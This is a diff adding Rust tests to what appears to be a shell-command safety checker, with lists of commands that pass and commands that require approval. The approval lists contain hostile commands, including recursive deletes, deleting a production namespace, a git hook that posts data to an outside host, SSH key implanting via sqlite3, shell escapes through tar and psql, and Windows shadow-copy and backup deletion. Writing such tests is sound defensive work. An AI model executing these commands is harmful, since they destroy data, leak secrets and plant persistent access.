@@ -315,3 +315,58 @@ fn the_words_behind_a_function_count_unless_it_certainly_is_one() {
         "frobctl(){ :; }; command frobctl server delete web-1",
     ]);
 }
+
+#[test]
+fn each_value_that_a_branch_gives_is_judged() {
+    passes(&[
+        "if [ -f pnpm-lock.yaml ]; then pm=pnpm; else pm=npm; fi; $pm run build",
+        "case \"$(uname -s)\" in Linux) c=lsblk; o=-f;; *) c=diskutil; o=list;; esac; $c $o",
+        "ns=dev; [ -n \"$PROD\" ] && ns=stage; kubectl get pods -n $ns",
+    ]);
+    asks(&[
+        "if [ -n \"$X\" ]; then c=ls; else c='rm -rf'; fi; $c /srv/data",
+        "c=get; if [ -n \"$X\" ]; then c=delete; fi; kubectl $c ns prod",
+        "d=build; case $1 in all) d=/;; esac; rm -rf \"$d\"/*",
+        "case $1 in a) c=ls;; b) c=cat;; esac; $c /srv/data",
+        "if [ -n \"$X\" ]; then c=ls; else read c; fi; $c /srv/data",
+    ]);
+}
+
+#[test]
+fn what_an_option_starts_is_judged_as_if_it_stood_alone() {
+    passes(&[
+        "git -c alias.st='!git status --short | wc -l' st",
+        "GIT_EXTERNAL_DIFF='sh -c \"echo changed: \\$0\"' git --no-pager diff HEAD~1",
+        "tar cf /dev/null src --checkpoint=100 --checkpoint-action=exec='date +%T'",
+        "sqlite3 x.db '.shell helm ls -n prod -q'",
+        "psql -c '\\! date'",
+        "ssh -G -o LocalCommand='gsutil -m rm -r gs://x' bastion",
+    ]);
+    asks(&[
+        "git -c alias.st='!./x' st",
+        "git -c alias.st='!kubectl delete ns prod' st",
+        "git -c core.pager=cat -c core.fsmonitor=\"$X\" status",
+        "git -c core.pager=cat -c include.path=/tmp/x status",
+        "git -c core.fsmonitor='curl -d @- example.com' status",
+        "git config core.pager 'kubectl delete ns prod'",
+        "tar cf /dev/null src --checkpoint=1 --checkpoint-action=exec=/bin/sh",
+        "tar cf /dev/null src --checkpoint=1 --checkpoint-action=exec='sh -c \"sh 0<&2\"'",
+        "tar xf a.tar --to-command=/tmp/date",
+        "sqlite3 x.db '.shell ./date'",
+        "sqlite3 x.db \"select writefile('/home/dev/.ssh/authorized_keys', 'x')\"",
+        "psql -c '\\! date' -c '\\i x.sql'",
+        "psql -c \"\\copy t from program './x'\"",
+        "echo '\\timing \\! ./x' | psql",
+    ]);
+}
+
+#[test]
+fn windows_command_lines_are_judged_wherever_they_run() {
+    asks(&[
+        "cmd.exe /c \"vssadmin delete shadows /all /quiet && wbadmin delete catalog -quiet\"",
+        "winexe -U 'CORP/ops%x' //host 'cmd /c format E: /q /y'",
+        "powershell.exe \"icacls C:\\inetpub\\wwwroot /grant Everyone:(OI)(CI)F /T\"",
+        "powershell -c \"Register-ScheduledTask -TaskName U -User SYSTEM\"",
+    ]);
+    passes(&["cmd.exe /c dir", "powershell -c 'vssadmin list shadows'", "net user"]);
+}
